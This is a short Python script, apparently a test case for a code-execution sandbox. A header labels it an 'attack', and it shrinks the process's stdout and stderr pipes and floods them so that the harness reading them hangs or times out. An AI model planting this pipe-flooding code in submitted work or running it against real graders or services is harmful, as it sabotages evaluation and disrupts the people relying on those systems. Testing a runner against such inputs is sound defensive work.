# /// attack
# row = "own"
# aim = "Make the pipes small and fill them, so that whoever reads or writes them hangs."
# runtimes = ["docker"]
# verdicts = ["timed_out", "rejected", "crashed"]
# wall_s = 10
# ///
import fcntl
import os

for descriptor in (1, 2):
    fcntl.fcntl(descriptor, 1031, 4096)  # F_SETPIPE_SZ
    os.set_blocking(descriptor, False)
for _ in range(2000):
    for descriptor in (1, 2):
        try:
            os.write(descriptor, b"x" * 4096)
        except BlockingIOError:
            pass
